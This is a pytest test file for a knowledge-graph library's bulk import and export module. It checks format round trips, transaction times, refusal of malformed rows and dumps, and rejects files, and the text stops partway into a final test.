"""Bulk import and export (kgtoolkit.io): formats, round trips, bad rows, atomicity, foreign SQLite graphs, real datasets."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import json
import re
import sqlite3
from collections.abc import Callable
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from real_graphs import RealGraph
from shared_data import DATA

import kgtoolkit
from kgtoolkit import InvalidRequest, InvalidRows, KnowledgeGraph, frames, io, normalize_name, normalize_predicate
from kgtoolkit.store import is_empty, read_table

TEXT_FORMATS = ("csv", "tsv", "jsonl", "parquet")
# What a fact is, independent of ids and transaction times.
FACT_KEY = [
    "subject",
    "subject_name",
    "predicate",
    "object",
    "object_name",
    "object_is_value",
    "valid_from",
    "valid_to",
    "confidence",
    "source",
    "source_closet",
]


def build_sample(kg: KnowledgeGraph) -> None:
    """A graph with history, value facts, types, properties, aliases, memories, a comma name, odd dates."""
    kg.add("my_api", "uses queue", "Redis", valid_from="2026-03-02", subject_type="project")
    kg.invalidate("my_api", "uses_queue", "Redis", ended="2026-10-12", ended_by="ops")
    kg.add(
        "my_api", "uses_queue", "SQLite", valid_from="2026-10-12", source="bob", source_closet="mem_x", confidence=0.75
    )
    kg.add("Alice", "email", "Alice@Example.com", subject_type="person", properties={"age": 3, "tags": ["a", "b"]})
    kg.add("Alice", "works at", "Nocetic", valid_from="2024-01", valid_to="2025-06", object_type="company")
    kg.add("Alice", "works at", "Nocetic", valid_from="2025-09-01T08:00:00+02:00")
    kg.add("EA Canada", "created", "Some Game", valid_from="0360-01-01")
    kg.add("Zoë O’Brien", "note", 'likes tea, coffee and "quotes"')
    kg.alias("Ally", "alice")
    kg.remember("Alice said so", source="chat", metadata={"k": [1, 2], "ü": "ß"})


def fact_rows(kg: KnowledgeGraph) -> list[tuple[Any, ...]]:
    return sorted(frames.facts(kg).select(FACT_KEY).rows(), key=repr)


def transaction_times(kg: KnowledgeGraph) -> list[tuple[Any, ...]]:
    return sorted(frames.facts(kg).select(*FACT_KEY, "recorded_at", "invalidated_at").rows(), key=repr)


def write_tsv(path: Path, rows: list[list[str]], header: list[str] | None = None) -> Path:
    lines = (["\t".join(header)] if header else []) + ["\t".join(r) for r in rows]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def where(kg: KnowledgeGraph) -> Path | str:
    """The database of ``kg`` as conftest's ``dump``/``sql`` take it: its file, or its PostgreSQL URL."""
    return kg.location.url if kg.location.url is not None else kg.location.path


@pytest.fixture
def sample(new_db: Callable[[str], Path | str]) -> KnowledgeGraph:
    """The sample graph, on the test's backend."""
    graph = kgtoolkit.open(new_db("sample"))
    build_sample(graph)
    yield graph
    graph.close()


@pytest.fixture
def fresh(new_db: Callable[[str], Path | str]) -> Callable[[str], KnowledgeGraph]:
    """``fresh(name)``: a new, empty graph on the test's backend (closed after the test)."""
    opened: list[KnowledgeGraph] = []

    def make(name: str = "fresh") -> KnowledgeGraph:
        graph = kgtoolkit.open(new_db(name), create=True)
        opened.append(graph)
        return graph

    yield make
    for graph in opened:
        graph.close()


# ====================================================================== round trips


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_round_trip_table_formats(sample: KnowledgeGraph, fresh, tmp_path: Path, fmt: str) -> None:
    path = tmp_path / f"facts.{fmt}"
    written = io.export_file(sample, path)
    assert written == sample.stats().facts == 7
    target = fresh()
    report = io.import_file(target, path)  # a kgtoolkit export: its comma name needs no --allow-commas again
    assert (report.rows, report.inserted, report.duplicates, report.rejected) == (7, 7, 0, 0)
    assert fact_rows(target) == fact_rows(sample)  # same subjects, objects, spellings, intervals, sources
    assert transaction_times(target) == transaction_times(sample)  # what the graph knew when stays the same
    # Entity types travel with the facts; the stored interval text is untouched (0360, datetime in UTC).
    types = dict(frames.entities(target).select("id", "type").rows())
    assert types["alice"] == "person" and types["my_api"] == "project" and types["nocetic"] == "company"
    assert {f.valid_from for f in target.query("EA Canada")} == {"0360-01-01"}
    assert "2025-09-01T06:00:00Z" in {f.valid_from for f in target.query("Alice")}


def test_an_export_keeps_its_transaction_times_and_known_at_answers_the_same(
    sample: KnowledgeGraph, fresh, tmp_path: Path
) -> None:
    path = tmp_path / "facts.parquet"
    io.export_file(sample, path)
    target = fresh()
    io.import_file(target, path)
    moment = min(f.recorded_at for f in sample.timeline())
    assert [f.object for f in target.query("my_api", known_at=moment)] == [
        f.object for f in sample.query("my_api", known_at=moment)
    ]


def test_transaction_times_in_a_file_are_checked(kg: KnowledgeGraph, tmp_path: Path) -> None:
    header = ["subject", "predicate", "object", "valid_from", "valid_to", "recorded_at", "invalidated_at"]
    path = write_tsv(
        tmp_path / "t.tsv",
        [
            ["a", "p", "b", "", "", "2020-01-01T00:00:00Z", ""],  # kept
            [
                "a",
                "p",
                "c",
                "2019-01-01",
                "2019-06-01",
                "2020-01-01T00:00:00+01:00",
                "2020-02-01T00:00:00Z",
            ],  # kept, in UTC
            ["a", "p", "d", "", "", "2999-01-01T00:00:00Z", ""],  # the future
            ["a", "p", "e", "", "", "2020-01-01", ""],  # no time of day, no zone
            ["a", "p", "f", "2019-01-01", "2019-06-01", "2020-01-01T00:00:00Z", "2019-12-01T00:00:00Z"],  # ends first
        ],
        header,
    )
    with pytest.raises(InvalidRows) as refused:
        io.import_file(kg, path)
    assert {(r["line"], r["field"], r["code"]) for r in refused.value.data["rows"]} == {
        (4, "recorded_at", "invalid_date"),
        (5, "recorded_at", "invalid_date"),
        (6, "invalidated_at", "invalid_date"),
    }
    assert kg.stats().facts == 0  # nothing imported
    io.import_file(kg, path, on_error="skip")
    kept = {f.object: (f.recorded_at, f.invalidated_at) for f in kg.timeline()}
    assert kept == {
        "b": ("2020-01-01T00:00:00.000000Z", None),
        "c": ("2019-12-31T23:00:00.000000Z", "2020-02-01T00:00:00.000000Z"),
    }


@pytest.mark.sqlite_only
@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_yago_imported_with_commas_exports_and_imports_back_as_it_is(
    kg: KnowledgeGraph, fresh, tmp_path: Path, fmt: str
) -> None:
    source = DATA / "yago11k" / "facts.tsv"
    if not source.is_file():
        pytest.skip(f"dataset yago11k not present in {DATA}")
    io.import_file(kg, source, on_error="skip", allow_commas=True)
    assert any("," in f.subject_name for f in kg.timeline(limit=5000))  # "Washington, D.C."-like names
    path = tmp_path / f"yago.{fmt}"
    io.export_file(kg, path)
    target = fresh()
    report = io.import_file(target, path)  # no flag: the file is recognised as a kgtoolkit export
    assert report.rejected == 0 and report.inserted == kg.stats().facts
    assert transaction_times(target) == transaction_times(kg)


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_export_filters_and_text_dates(sample: KnowledgeGraph, tmp_path: Path, fmt: str) -> None:
    path = tmp_path / f"current.{fmt}"
    assert io.export_file(sample, path, current_only=True, predicate="uses queue") == 1
    back = io.read_facts_file(path)
    assert back.select("subject", "predicate", "object", "valid_from", "valid_to").rows() == [
        ("my_api", "uses_queue", "SQLite", "2026-10-12", None)
    ]
    assert all(t == pl.String for c, t in back.schema.items() if c != "line")
    assert io.export_file(sample, tmp_path / f"asof.{fmt}", as_of="2026-10-12", entity="my_api") == 2
    if fmt != "parquet":  # instants are ISO text with Z in the text formats
        text = path.read_text(encoding="utf-8")
        assert "2026-10-12T00:00:00.000000Z" in text


def read_export(path: Path) -> pl.DataFrame:
    """An exported file as written: Parquet with its types, the text formats as text (no inference)."""
    fmt = path.suffix[1:]
    if fmt == "parquet":
        return pl.read_parquet(path)
    if fmt == "jsonl":
        return pl.read_ndjson(path)
    return pl.read_csv(
        path, separator="\t" if fmt == "tsv" else ",", quote_char=None if fmt == "tsv" else '"', infer_schema=False
    )


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_exports_are_the_same_whatever_the_backend(sample: KnowledgeGraph, tmp_path: Path, fmt: str) -> None:
    """The same graph in an SQLite file and on the test's backend exports the same file (but for the clock's times)."""
    with kgtoolkit.open(tmp_path / "reference.sqlite3") as reference:
        build_sample(reference)
        io.export_file(reference, tmp_path / f"reference.{fmt}")
    io.export_file(sample, tmp_path / f"sample.{fmt}")
    ours, theirs = read_export(tmp_path / f"sample.{fmt}"), read_export(tmp_path / f"reference.{fmt}")
    assert ours.schema == theirs.schema  # the same columns, in the same order, of the same types
    clock = ("recorded_at", "invalidated_at")  # when each graph was written
    assert ours.drop(clock).rows() == theirs.drop(clock).rows()  # every other cell the same, in the same order
    assert ours.select(pl.col(clock).is_null()).rows() == theirs.select(pl.col(clock).is_null()).rows()


def test_lossless_json_round_trip_is_exact(sample: KnowledgeGraph, fresh, tmp_path: Path) -> None:
    sample.configure(
        types=sample.config.types | {"service"},
        value_predicates=["email", "note", "motto"],
        multi_valued=["knows"],
        comma_guard=False,
    )
    sample.add("Billing", "motto", "Pay, then play", subject_type="service")
    first, second = tmp_path / "one.json", tmp_path / "two.json"
    assert io.export_file(sample, first) == 8
    target = fresh()
    report = io.import_file(target, first)
    assert (report.inserted, report.rejected) == (8, 0)
    io.export_file(target, second)
    assert first.read_bytes() == second.read_bytes()
    # Every table, ids and transaction times included, and the settings.
    for table in ("facts", "entities", "aliases", "memories"):
        assert read_table(target, table).to_pylist() == read_table(sample, table).to_pylist(), table
    assert target.config == sample.config
    data = json.loads(first.read_text(encoding="utf-8"))
    assert data["kgtoolkit"]["schema"] == kgtoolkit.store.SCHEMA_VERSION
    assert set(data) == {
        "kgtoolkit",
        "config",
        "entities",
        "facts",
        "aliases",
        "memories",
        "predicates",
        "predicate_aliases",
        "not_duplicates",
    }
    ended = next(f for f in data["facts"] if f["valid_to"] == "2026-10-12")
    assert ended["ended_by"] == "ops" and ended["invalidated_at"] and ended["recorded_at"]
    alice = next(e for e in data["entities"] if e["id"] == "alice")
    assert alice["properties"] == {"age": 3, "tags": ["a", "b"]} and alice["type"] == "person"
    assert target.memory(data["memories"][0]["id"]).metadata == {"k": [1, 2], "ü": "ß"}
    assert target.resolve("Ally") == "alice"
    # A fresh graph's user settings are replaced by the dump's (the dump holds the whole graph).
    other = fresh("configured")
    other.configure(types=["robot"])
    io.import_file(other, first)
    assert other.config == sample.config


def test_every_write_path_restores_exactly(fresh, tmp_path: Path) -> None:
    """What add, invalidate, supersede, merge, alias, remember and a bulk import store is never refused."""
    from kgtoolkit._demo import build_demo

    demo = build_demo(tmp_path / "demo.sqlite3")
    demo.add("Acme", "note", "Lisbon, Portugal")
    tsv = write_tsv(
        tmp_path / "bulk.tsv",
        [["  Spaced   Out ", "Works At", "acme", "2026", "2026-06", "crm"], ["Q", "note", " Loud ", "", "", " hr "]],
        header=["subject", "predicate", "object", "valid_from", "valid_to", "source"],
    )
    io.import_file(demo, tsv)
    first, second = tmp_path / "one.json", tmp_path / "two.json"
    io.export_file(demo, first)
    target = fresh()
    assert io.import_file(target, first).inserted == demo.stats().facts
    io.export_file(target, second)
    assert first.read_bytes() == second.read_bytes()
    demo.close()


def test_export_types_outside_the_vocabulary(fresh, tmp_path: Path) -> None:
    """A table export carries entity types; the importing graph's vocabulary must know them (add's rule)."""
    source = fresh("typed")
    source.configure(types=source.config.types | {"service"})
    source.add("billing", "depends on", "postgres", subject_type="service")
    path = tmp_path / "typed.csv"
    io.export_file(source, path)
    target = fresh()
    with pytest.raises(InvalidRows) as excinfo:
        io.import_file(target, path)
    assert [(r["line"], r["field"], r["value"]) for r in excinfo.value.data["rows"]] == [(2, "subject_type", "service")]
    target.configure(types=target.config.types | {"service"})
    assert io.import_file(target, path).inserted == 1 and target.entity("billing").type == "service"


def test_invalid_dumps_change_nothing(sample: KnowledgeGraph, fresh, tmp_path: Path, dump) -> None:
    path = tmp_path / "dump.json"
    io.export_file(sample, path)
    data = json.loads(path.read_text(encoding="utf-8"))
    target = fresh()
    before = dump(where(target))
    broken = [
        ({k: v for k, v in data.items() if k != "kgtoolkit"}, "not a kgtoolkit dump"),
        ({**data, "kgtoolkit": {"schema": 99}}, "newer"),
        ({**data, "facts": [*data["facts"], {**data["facts"][0], "id": 99, "subject": "ghost"}]}, r"facts\[7\]"),
        ({**data, "facts": [{**data["facts"][0], "valid_from": "19##"}]}, "not a date"),
        ({**data, "entities": [{**data["entities"][0], "properties": "x"}]}, r"entities\[0\]\.properties"),
    ]
    for i, (bad, message) in enumerate(broken):
        bad_path = tmp_path / f"bad{i}.json"
        bad_path.write_text(json.dumps(bad), encoding="utf-8")
        with pytest.raises(kgtoolkit.KGError, match=message):
            io.import_file(target, bad_path)
        assert dump(where(target)) == before, message
    (tmp_path / "lines.json").write_text('{"subject": "a"}\n{"subject": "b"}\n', encoding="utf-8")
    with pytest.raises(InvalidRequest, match="JSON Lines"):
        io.import_file(target, tmp_path / "lines.json")


def _sample_dump(sample: KnowledgeGraph, tmp_path: Path) -> dict[str, Any]:
    path = tmp_path / "sample.json"
    io.export_file(sample, path)
    return json.loads(path.read_text(encoding="utf-8"))


def _write(path: Path, data: dict[str, Any]) -> Path:
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def _refused(target: KnowledgeGraph, data: dict[str, Any], tmp_path: Path, dump) -> tuple[str, list[dict[str, Any]]]:
    """Restore ``data`` into the empty ``target``: it must be refused whole, with the graph untouched."""
    path = _write(tmp_path / "edited.json", data)  # NaN as NaN, lone surrogates as \ud800 escapes
    before = dump(where(target))
    with pytest.raises(InvalidRows) as excinfo:
        io.import_file(target, path)
    assert dump(where(target)) == before and is_empty(target)
    assert excinfo.value.code == "invalid_rows"
    return excinfo.value.message, excinfo.value.data["rows"]


@pytest.mark.parametrize(
    ("section", "key", "value", "code"),
    [
        ("facts", "predicate", "", "invalid_name"),
        ("facts", "predicate", "Works At", "invalid_name"),  # not normalised: add would store works_at
        ("entities", "type", "robot", "unknown_type"),  # outside the dump's own vocabulary
        ("facts", "recorded_at", "yesterday", "invalid_date"),
        ("facts", "recorded_at", "2026-12-02", "invalid_date"),  # a transaction time is a full UTC instant
        ("facts", "subject", "ghost", "not_found"),  # no such entity in the dump
        ("facts", "object_id", "ghost", "not_found"),
        ("facts", "valid_from", "2026-10", "invalid_date"),  # the store keeps 2026-10-01
        ("facts", "valid_from", "19##", "invalid_date"),
        ("facts", "confidence", 1.5, "invalid_request"),
        ("facts", "confidence", True, "invalid_request"),
        ("facts", "source", " ", "invalid_name"),
        ("facts", "object_value", "  spaced  out ", "invalid_name"),
        ("entities", "id", "Alice", "invalid_name"),  # not the normalised name
        ("entities", "name", "", "invalid_name"),
        ("entities", "created_at", "2026-02-30T00:00:00.000000Z", "invalid_date"),
        ("entities", "created_at", "", "invalid_date"),
        ("entities", "properties", [1], "invalid_request"),
    ],
)
def test_restore_refuses_what_the_store_never_holds(
    sample: KnowledgeGraph, fresh, tmp_path: Path, dump, section: str, key: str, value: Any, code: str
) -> None:
    """An edited dump is refused whole, the bad record named; the old restore stored most of these."""
    data = _sample_dump(sample, tmp_path)
    i = (
        {e["id"]: i for i, e in enumerate(data["entities"])}["alice"]
        if section == "entities"
        else next(i for i, f in enumerate(data["facts"]) if f["object_id"] == "nocetic")
    )
    if key == "object_value":
        i = next(i for i, f in enumerate(data["facts"]) if f["object_value"])
    line = data["facts"][i]["id"] if section == "facts" else None
    data[section][i][key] = value
    message, rows = _refused(fresh(), data, tmp_path, dump)
    shown = value if isinstance(value, str) else json.dumps(value)
    first, *others = rows
    assert (first["record"], first["line"], first["field"], first["value"], first["code"]) == (
        f"{section}[{i}]",
        line,
        key,
        shown,
        code,
    )
    assert f"problem(s) in {len(rows)} record(s) of the dump, nothing restored (" in message
    assert f"):\n  {section}[{i}].{key}" in message
    if key == "id":  # the facts and the alias naming alice now name no entity of the dump
        assert {(r["field"], r["value"], r["code"]) for r in others} <= {
            ("subject", "alice", "not_found"),
            ("object_id", "alice", "not_found"),
            ("entity_id", "alice", "not_found"),
        }
    else:
        assert others == []


def test_restore_follows_the_dumps_own_vocabulary(sample: KnowledgeGraph, fresh, tmp_path: Path) -> None:
    data = _sample_dump(sample, tmp_path)
    alice = {e["id"]: i for i, e in enumerate(data["entities"])}["alice"]
    data["entities"][alice]["type"] = "robot"
    data["config"]["types"].append("robot")
    target = fresh()
    target.configure(types=["gadget"])  # the graph's own settings do not matter: the dump's replace them
    io.import_file(target, _write(tmp_path / "robot.json", data))
    assert target.entity("alice").type == "robot" and "robot" in target.config.types


def test_restore_refuses_broken_references_and_duplicates(sample: KnowledgeGraph, fresh, tmp_path: Path, dump) -> None:
    data = _sample_dump(sample, tmp_path)
    target = fresh()
    current = next(i for i, f in enumerate(data["facts"]) if f["valid_to"] is None and f["object_id"])
    twin = {**data["facts"][current], "id": 99}
    # Two identical current facts: the store keeps one (its unique index), so a dump cannot hold two.
    _, rows = _refused(target, {**data, "facts": [*data["facts"], twin]}, tmp_path, dump)
    assert [(r["record"], r["line"], r["field"], r["value"], r["code"]) for r in rows] == [
        (f"facts[{len(data['facts'])}]", 99, "valid_to", None, "invalid_request")
    ]
    assert f"facts[{current}] is the same fact" in rows[0]["reason"]
    # ... as value objects compare case-folded.
    value = next(i for i, f in enumerate(data["facts"]) if f["predicate"] == "email")
    shout = {**data["facts"][value], "id": 98, "object_value": data["facts"][value]["object_value"].upper()}
    _, rows = _refused(target, {**data, "facts": [*data["facts"], shout]}, tmp_path, dump)
    assert [(r["line"], r["field"]) for r in rows] == [(98, "valid_to")]
    # An object, an alias pointing at no entity; a fact id used twice; every problem is listed, in order.
    edited = json.loads(json.dumps(data))
    edited["facts"][0]["object_id"], edited["facts"][0]["object_value"] = "nobody", None
    edited["facts"][1]["id"] = edited["facts"][0]["id"]
    edited["aliases"][0]["entity_id"] = "nobody"
    message, rows = _refused(target, edited, tmp_path, dump)
    assert [(r["record"], r["field"], r["code"]) for r in rows] == [
        ("facts[0]", "object_id", "not_found"),
        ("facts[1]", "id", "invalid_request"),
        ("aliases[0]", "entity_id", "not_found"),
    ]
    assert message.startswith(
        "3 problem(s) in 3 record(s) of the dump, nothing restored (2 not_found, "
        "1 invalid_request):\n  facts[0].object_id"
    )
    # An alias that is an entity's id, a memory without text, a record that is not an object.
    edited = json.loads(json.dumps(data))
    edited["aliases"][0] = {"alias": "nocetic", "name": "Nocetic", "entity_id": "alice"}
    edited["memories"][0]["text"] = ""
    edited["entities"].append("alice")
    _, rows = _refused(target, edited, tmp_path, dump)
    assert [(r["record"], r["code"]) for r in rows] == [
        (f"entities[{len(data['entities'])}]", "invalid_request"),
        ("aliases[0]", "alias_conflict"),
        ("memories[0]", "invalid_name"),
    ]


def test_restore_checks_the_ends_of_facts_and_the_config(sample: KnowledgeGraph, fresh, tmp_path: Path, dump) -> None:
    data = _sample_dump(sample, tmp_path)
    target = fresh()
    ended = next(i for i, f in enumerate(data["facts"]) if f["valid_to"] is not None)
    current = next(i for i, f in enumerate(data["facts"]) if f["valid_to"] is None)
    edited = json.loads(json.dumps(data))
    edited["facts"][ended]["invalidated_at"] = None  # an end is always recorded with when and by whom
    edited["facts"][ended]["valid_from"] = "2027-01-01"
    edited["facts"][current]["ended_by"] = "ops"
    edited["config"]["types"].append("Robot")
    edited["config"]["comma_guard"] = "yes"
    edited["config"]["later"] = float("nan")
    _, rows = _refused(target, edited, tmp_path, dump)
    by_fact = {
        ended: [("valid_to", "interval_order"), ("invalidated_at", "invalid_request")],
        current: [("ended_by", "invalid_request")],
    }
    assert [(r["record"], r["field"], r["code"]) for r in rows] == [
        ("config", "types", "invalid_name"),
        ("config", "comma_guard", "invalid_request"),
        ("config", "later", "invalid_request"),
        *[(f"facts[{i}]", field, code) for i in sorted(by_fact) for field, code in by_fact[i]],
    ]
    assert "'Robot' in types is not normalised; the graph keeps 'robot'" in rows[0]["reason"]


def test_restore_refuses_values_the_store_cannot_keep(sample: KnowledgeGraph, fresh, tmp_path: Path, dump) -> None:
    """NaN, whole numbers too big for SQLite, lone surrogates: refused as KGErrors (they used to escape as
    OverflowError or UnicodeEncodeError), in an exact restore and in a merge alike."""
    data = _sample_dump(sample, tmp_path)
    edited = json.loads(json.dumps(data))
    edited["facts"][0]["id"] = 2**63
    edited["facts"][1]["confidence"] = float("nan")
    edited["facts"][2]["confidence"] = 10**400
    edited["facts"][3]["source"] = "\ud800"
    edited["entities"][0]["properties"] = {"x": float("inf")}
    edited["memories"][0]["metadata"] = {"x": "\udfff"}
    _, rows = _refused(fresh(), edited, tmp_path, dump)
    assert [(r["record"], r["field"]) for r in rows] == [
        ("entities[0]", "properties"),
        ("facts[0]", "id"),
        ("facts[1]", "confidence"),
        ("facts[2]", "confidence"),
        ("facts[3]", "source"),
        ("memories[0]", "metadata"),
    ]
    assert rows[1]["line"] is None and rows[2]["line"] == data["facts"][1]["id"]
    busy = fresh("busy")
    busy.add("Zed", "knows", "Alice")
    before = dump(where(busy))
    for key, value in (("id", 2**63), ("confidence", 10**400), ("source", "\ud800"), ("subject", 5)):
        broken = json.loads(json.dumps(data))
        broken["facts"][0][key] = value
        with pytest.raises(kgtoolkit.KGError):
            io.import_file(busy, _write(tmp_path / "merge.json", broken))
        assert dump(where(busy)) == before, key


def test_refused_restore_writes_the_rejects_file(sample: KnowledgeGraph, fresh, tmp_path: Path) -> None:
    data = _sample_dump(sample, tmp_path)
    data["facts"][4]["predicate"] = ""
    rejects = tmp_path / "rejects.csv"
    with pytest.raises(InvalidRows):
        io.import_file(fresh(), _write(tmp_path / "bad.json", data), rejects=rejects)
    rows = list(csv.DictReader(rejects.open(encoding="utf-8")))
    assert [(r["line"], r["record"], r["field"], r["code"]) for r in rows] == [
        (str(data["facts"][4]["id"]), "facts[4]", "predicate", "invalid_name")
    ]


def test_json_dump_refuses_filters(sample: KnowledgeGraph, tmp_path: Path) -> None:
    with pytest.raises(InvalidRequest, match="whole graph"):
        io.export_file(sample, tmp_path / "x.json", current_only=True)


def test_json_dump_into_non_empty_graph_merges_by_add_rules(sample: KnowledgeGraph, fresh, tmp_path: Path) -> None:
    path = tmp_path / "dump.json"
    io.export_file(sample, path)
    target = fresh()
    target.add("Alice", "works at", "Nocetic", valid_from="2025-09-01T06:00:00Z", subject_type="unknown")
    target.add("Robert", "knows", "Alice")
    before = {f.id: f for f in target.timeline()}
    report = io.import_file(target, path, allow_commas=True)
    assert report.rows == 7 and report.duplicates == 1 and report.inserted == 6 and report.rejected == 0
    after = {f.id: f for f in target.timeline()}
    assert all(after[i] == f for i, f in before.items())  # nothing already there was touched
    assert target.entity("alice").type == "person"  # upgraded from unknown
    assert dict(target.entity("alice").properties) == {"age": 3, "tags": ["a", "b"]}
    assert target.resolve("ally") == "alice"
    assert target.stats().memories == 1
    assert {(f.subject, f.object, f.valid_from, f.valid_to) for f in target.timeline()} >= {
        ("my_api", "redis", "2026-03-02", "2026-10-12"),
        ("my_api", "sqlite", "2026-10-12", None),
    }


def test_importing_twice_changes_nothing(sample: KnowledgeGraph, fresh, tmp_path: Path, dump) -> None:
    for fmt in (*TEXT_FORMATS, "json"):
        path = tmp_path / f"twice.{fmt}"
        io.export_file(sample, path)
        target = fresh(f"twice_{fmt}")
        io.import_file(target, path, allow_commas=True)
        once = dump(where(target))
        report = io.import_file(target, path, allow_commas=True)
        assert report.inserted == 0 and report.duplicates == 7, fmt
        assert dump(where(target)) == once, fmt


# ====================================================================== reading files


def test_read_every_column_as_text_with_line_numbers(tmp_path: Path) -> None:
    path = tmp_path / "f.csv"
    path.write_text(
        "subject,predicate,object,valid_from,confidence,extra\n"
        "Q1,p,00123,0360-01-01,0.5,x\n"
        "\n"
        '"Multi\nLine",p,"a, b",,,\n'
        "Q3,p,o,2014,,\n",
        encoding="utf-8",
    )
    frame = io.read_facts_file(path)
    assert frame.columns == ["line", "subject", "predicate", "object", "valid_from", "confidence"]
    assert frame["line"].to_list() == [2, 4, 6]  # header is line 1; a blank line and a quoted break counted
    assert frame.row(0) == (2, "Q1", "p", "00123", "0360-01-01", "0.5")
    assert frame.row(1)[1] == "Multi\nLine" and frame.row(2)[4] == "2014"


def test_jsonl_and_parquet_line_numbers(tmp_path: Path) -> None:
    path = tmp_path / "f.jsonl"
    path.write_text(
        '{"subject": "a", "predicate": "p", "object": 7, "valid_from": "2014-01-01"}\n\n'
        '{"subject": "b", "predicate": "p", "object": "c", "confidence": 0.5, "valid_to": null}\n',
        encoding="utf-8",
    )
    frame = io.read_facts_file(path)
    assert frame.select("line", "subject", "object", "confidence").rows() == [(1, "a", "7", None), (3, "b", "c", "0.5")]
    parquet = tmp_path / "f.parquet"
    pl.DataFrame(
        {"subject": ["a", "b"], "predicate": ["p", "p"], "object": ["c", "d"], "valid_from": [dt.date(360, 1, 1), None]}
    ).write_parquet(parquet)
    back = io.read_facts_file(parquet)
    assert back.select("line", "valid_from").rows() == [(1, "0360-01-01"), (2, None)]
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"subject": "a"}\n[1, 2]\n', encoding="utf-8")
    with pytest.raises(InvalidRequest, match="line 2 is not a JSON object"):
        io.read_facts_file(bad)


def test_column_mapping(kg: KnowledgeGraph, tmp_path: Path) -> None:
    path = write_tsv(
        tmp_path / "kg.tsv",
        [["Alice", "worksAt", "Nocetic", "2020-01-01", "2021-12-31", "ignored"]],
        header=["head", "relation", "tail", "start", "end", "comment"],
    )
    mapping = {"head": "subject", "relation": "predicate", "tail": "object", "start": "valid_from", "end": "valid_to"}
    report = io.import_file(kg, path, columns=mapping)
    assert report.inserted == 1
    (fact,) = kg.query("alice")
    assert (fact.predicate, fact.object, fact.valid_from, fact.valid_to) == (
        "worksat",
        "nocetic",
        "2020-01-01",
        "2021-12-31",
    )
    with pytest.raises(InvalidRequest) as excinfo:
        io.read_facts_file(path)
    message = excinfo.value.message
    assert "subject, predicate, object" in message and "head, relation, tail, start, end, comment" in message
    with pytest.raises(InvalidRequest, match="not a field"):
        io.read_facts_file(path, columns={"head": "subj"})
    with pytest.raises(InvalidRequest, match="does not have"):
        io.read_facts_file(path, columns={"nope": "subject"})


def test_headerless_tsv(kg: KnowledgeGraph, tmp_path: Path) -> None:
    four = write_tsv(tmp_path / "four.txt", [["a", "p", "b", "2014-01-05"], ["c", "p", "d", "2014-02-01"]])
    frame = io.read_facts_file(four, header=False)  # default: subject, predicate, object, valid_from, valid_to
    assert frame.select("line", "subject", "valid_from").rows() == [(1, "a", "2014-01-05"), (2, "c", "2014-02-01")]
    assert "valid_to" not in frame.columns
    five = write_tsv(tmp_path / "five.tsv", [["2014-01-05", "a", "p", "b", "x"]])
    report = io.import_file(
        kg, five, header=False, columns={0: "valid_from", "1": "subject", "2": "predicate", "3": "object"}
    )
    assert report.inserted == 1 and kg.query("a")[0].valid_from == "2014-01-05"


def test_tsv_keeps_quotes_and_csv_unquotes(kg: KnowledgeGraph, tmp_path: Path) -> None:
    path = write_tsv(
        tmp_path / "q.tsv",
        [['Nicholas "Nick" Xenophon', "Accuse", '"Citizen" (Australia)']],
        header=["subject", "predicate", "object"],
    )
    assert io.read_facts_file(path).row(0)[1:] == ('Nicholas "Nick" Xenophon', "Accuse", '"Citizen" (Australia)')


# ====================================================================== bad rows


BAD_CSV = (
    "subject,predicate,object,valid_from,valid_to\n"
    "Alice,works_at,Nocetic,2020-01-01,\n"  # 2 good
    "Bob,works_at,Acme,19##,\n"  # 3 invalid date
    "Carol,works_at,Acme,2020-05-01,2019-01-01\n"  # 4 end before start
    ",works_at,Acme,,\n"  # 5 empty subject
    'Dan,knows,"Erin, Frank",,\n'  # 6 comma list
    "Gus,born,Athens,-0405-01-01,\n"  # 7 BC
    "Hal,works_at,Acme,2021-02-30,\n"
)  # 8 no such day


def test_bad_rows_refuse_the_whole_file(kg: KnowledgeGraph, tmp_path: Path, dump) -> None:
    kg.add("Zed", "knows", "Alice")
    before = dump(where(kg))
    path = tmp_path / "bad.csv"
    path.write_text(BAD_CSV, encoding="utf-8")
    with pytest.raises(InvalidRows) as excinfo:
        io.import_file(kg, path, comma_guard=True)
    error = excinfo.value
    assert error.code == "invalid_rows"
    rows = {(r["line"], r["field"]): r for r in error.data["rows"]}
    assert set(rows) == {
        (3, "valid_from"),
        (4, "valid_to"),
        (5, "subject"),
        (6, "object"),
        (7, "valid_from"),
        (8, "valid_from"),
    }
    assert rows[(3, "valid_from")]["value"] == "19##" and "not a date" in rows[(3, "valid_from")]["reason"]
    assert "before valid_from" in rows[(4, "valid_to")]["reason"]
    assert "BC" in rows[(7, "valid_from")]["reason"]
    assert "comma" in rows[(6, "object")]["reason"]
    assert "line 3 valid_from '19##'" in error.message
    assert dump(where(kg)) == before


def test_skip_imports_good_rows_and_writes_rejects(kg: KnowledgeGraph, tmp_path: Path) -> None:
    path, rejects = tmp_path / "bad.csv", tmp_path / "rejects.csv"
    path.write_text(BAD_CSV, encoding="utf-8")
    report = io.import_file(kg, path, on_error="skip", rejects=rejects, comma_guard=True)
    assert (report.rows, report.inserted, report.rejected) == (7, 1, 6)
    assert [f.subject for f in kg.timeline()] == ["alice"]
    with rejects.open(encoding="utf-8", newline="") as fh:
        got = list(csv.DictReader(fh))
    assert [(int(r["line"]), r["field"]) for r in got] == [
        (3, "valid_from"),
        (4, "valid_to"),
        (5, "subject"),
        (6, "object"),
        (7, "valid_from"),
        (8, "valid_from"),
    ]
    assert got[0]["subject"] == "Bob" and got[0]["value"] == "19##" and got[0]["reason"]
    assert got[3]["object"] == "Erin, Frank"
    # The same file with the comma guard off (a bulk import's default): the comma row is a real name now.
    report = io.import_file(kg, path, on_error="skip")
    assert report.inserted == 1 and report.duplicates == 1
    assert any("1 name(s) or value(s) hold a comma ('Erin, Frank')" in w for w in report.warnings)


def test_interrupted_import_leaves_graph_as_before(
    kg: KnowledgeGraph, fresh, tmp_path: Path, dump, monkeypatch: pytest.MonkeyPatch
) -> None:
    import kgtoolkit.store.transfer._dump as dump_module
    import kgtoolkit.store.transfer._load as bulk

